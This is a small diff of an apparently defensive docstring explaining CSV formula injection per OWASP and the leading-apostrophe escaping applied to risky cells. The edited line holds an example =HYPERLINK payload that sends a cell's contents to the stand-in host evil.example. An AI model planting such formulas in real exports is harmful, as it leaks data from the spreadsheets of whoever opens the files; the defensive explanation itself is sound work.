@@ -2,7 +2,7 @@
 
 Why (OWASP « CSV Injection »): a spreadsheet opening a CSV reads a cell starting with ``=``,
 ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula. A public suggestion
-named ``=HYPERLINK("https://evil.example/?leak="&B2;"Cliquez ici")``, once accepted, would become
+named ``=HYPERLINK("https://evil.example/?leak="&B2,"Cliquez ici")``, once accepted, would become
 a live formula in every export and in the files third parties reuse. So:
 
 - in a CSV, such a cell gets a leading apostrophe (``'=HYPERLINK(…``), which spreadsheets show
